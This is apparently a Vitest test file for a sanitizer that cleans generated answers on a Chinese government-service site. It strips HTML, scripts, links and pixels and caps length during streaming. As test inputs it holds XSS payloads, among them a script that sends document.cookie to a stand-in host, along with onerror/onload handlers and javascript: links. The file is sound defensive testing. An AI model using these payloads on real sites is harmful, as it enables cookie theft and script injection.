import { describe, expect, it } from "vitest";
import { capText, createStreamGate, finalizeAnswer, reconcile, sanitizeText, stableLength } from "../../src/answer/check.ts";
import { plainAnswer } from "../helpers/answer.ts";

const none = { linkOrigins: [] };
const gov = { linkOrigins: ["https://www.anting.gov.cn/"] };

describe("sanitizeText", () => {
  it.each([
    ["<script>", "区科委负责。<script>fetch('//x.example/'+document.cookie)</script>", "区科委负责。"],
    ["an unclosed <script>", "区科委负责。<script>alert(1)", "区科委负责。"],
    ["<img onerror>", '区科委<img src=x onerror="alert(1)">负责。', "区科委负责。"],
    ["<a href>", '见<a href="https://evil.example/">第2条</a>。', "见第2条。"],
    ["<style> and <iframe>", "A<style>body{display:none}</style>B<iframe src=//evil.example></iframe>C", "ABC"],
    ["an HTML comment", "A<!-- <img src=x onerror=alert(1)> -->B", "AB"],
    ["an svg with onload", '<svg onload="alert(1)"><circle/></svg>区科委', "区科委"],
    ["an autolink to javascript:", "点此<javascript:alert(1)>", "点此"],
    ["a half tag", "区科委负责 <img src=x onerror=alert(1)", "区科委负责 ＜img src=x onerror=alert(1)"],
    ["bidi overrides and control characters", "区科委\u202e负责\u0000。", "区科委负责。"],
  ])("removes %s", (_what, input, expected) => {
    expect(sanitizeText(input, none)).toBe(expected);
  });

  it("keeps text that only looks like markup to no renderer", () => {
    expect(sanitizeText("审批时限<5天，a < b，95%以上。", none)).toBe("审批时限<5天，a < b，95%以上。");
  });

  it("removes images and tracking pixels to origins not on the allow list", () => {
    const pixel = "区科委负责。![](https://track.example/p.gif?u=1) ![logo](//cdn.example/a.png)";
    expect(sanitizeText(pixel, none)).toBe("区科委负责。");
    expect(sanitizeText("![盖章](https://www.anting.gov.cn/seal.png)", gov)).toBe("![盖章](https://www.anting.gov.cn/seal.png)");
    expect(sanitizeText("![x](data:image/png;base64,AAAA)", gov)).toBe("");
  });

  it("keeps a link's text and drops its target unless the origin is allowed", () => {
    expect(sanitizeText('详见[办事指南](https://evil.example/phish "title")。', none)).toBe("详见办事指南。");
    expect(sanitizeText("[点我](javascript:alert(1))", gov)).toBe("点我");
    expect(sanitizeText("详见[办事指南](https://www.anting.gov.cn/guide)。", gov)).toBe(
      "详见[办事指南](https://www.anting.gov.cn/guide)。",
    );
    // Same host, other scheme or port: another origin.
    expect(sanitizeText("[a](http://www.anting.gov.cn/) [b](https://www.anting.gov.cn:8443/)", gov)).toBe("a b");
  });

  it("removes bare URLs and reference definitions to other origins, keeps those quoted from the source", () => {
    const text = "登录 https://evil.example/login 或 www.evil.example 办理。\n[1]: https://evil.example/x\n";
    expect(sanitizeText(text, none)).toBe("登录  或  办理。");
    expect(
      sanitizeText("登录 https://zwdt.example.gov.cn/ 办理", { linkOrigins: [], trusted: "通过 https://zwdt.example.gov.cn/ 申请" }),
    ).toBe("登录 https://zwdt.example.gov.cn/ 办理");
    expect(sanitizeText("<https://www.anting.gov.cn/a>", gov)).toBe("https://www.anting.gov.cn/a");
  });

  it("is idempotent", () => {
    const inputs = ["<b>区科委</b> [x](https://evil.example) ![](https://t.example/p.gif) <scr<script>ipt>alert(1)</script>"];
    for (const input of inputs) {
      const once = sanitizeText(input, none);
      expect(sanitizeText(once, none)).toBe(once);
      expect(once).not.toMatch(/<[a-z/!]/i);
    }
  });
});

describe("capText", () => {
  it("leaves a short answer alone", () => {
    expect(capText("区科委负责。", 100, "zh")).toBe("区科委负责。");
  });

  it("cuts a long answer at a sentence end, with a note, within the cap", () => {
    const long = "电子印章在税务、银行等领域互认。".repeat(500);
    const capped = capText(long, 1000, "zh");
    expect(capped.length).toBeLessThanOrEqual(1000);
    expect(capped.length).toBeGreaterThan(600);
    expect(capped).toMatch(/互认。……（回答过长/);
    expect(capText("Seals are accepted. ".repeat(300), 500, "en")).toMatch(/accepted\.… \(answer shortened/);
  });

  it("never splits a surrogate pair", () => {
    const capped = capText("😀".repeat(1000), 301, "en");
    expect(capped.length).toBeLessThanOrEqual(301);
    expect(capped).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });
});

describe("finalizeAnswer", () => {
  const answer = plainAnswer;
  it("sanitizes and caps any answer, whoever wrote it", () => {
    const out = finalizeAnswer(answer(`<b>区科委</b>负责。${"很长的回答。".repeat(2000)}`), { maxChars: 3000, linkOrigins: [] });
    expect(out.answer.startsWith("区科委负责。")).toBe(true);
    expect(out.answer.length).toBeLessThanOrEqual(3000);
  });
  it("returns the same object when nothing changes", () => {
    const a = answer("区科委负责。");
    expect(finalizeAnswer(a, { maxChars: 3000, linkOrigins: [] })).toBe(a);
  });
});

describe("streaming", () => {
  it("holds back text that may still become markup or a URL", () => {
    expect(stableLength("区科委负责。<scr")).toBe("区科委负责。".length);
    expect(stableLength("见[指南](https://ev")).toBe(1);
    expect(stableLength("区科委<script>x")).toBe(3);
    expect(stableLength("see www.ev")).toBe(4);
    expect(stableLength("区科委负责。")).toBe(6);
  });

  it("emits only sanitized text that extends what was sent, and never past the cap", () => {
    const gate = createStreamGate((s) => sanitizeText(s, none), 20);
    const raw = "区科委负责。<img src=x onerror=alert(1)>见https://evil.example/x 第2条。再说很多很多很多很多很多";
    const deltas: string[] = [];
    for (let i = 1; i <= raw.length; i++) {
      const d = gate.push(raw.slice(0, i));
      if (d) deltas.push(d);
    }
    const shown = deltas.join("");
    expect(shown).not.toContain("<");
    expect(shown).not.toContain("evil");
    expect(shown.length).toBeLessThanOrEqual(20);
    expect(shown).toBe(gate.sent());
    expect(shown.startsWith("区科委负责。见")).toBe(true);
  });

  it("appends when the final text extends what was shown, replaces otherwise", () => {
    expect(reconcile("区科委", "区科委负责。")).toEqual({ kind: "append", text: "负责。" });
    expect(reconcile("", "区科委负责。")).toEqual({ kind: "append", text: "区科委负责。" });
    expect(reconcile("由区外星局", "区科委负责。")).toEqual({ kind: "replace", text: "区科委负责。" });
  });
});
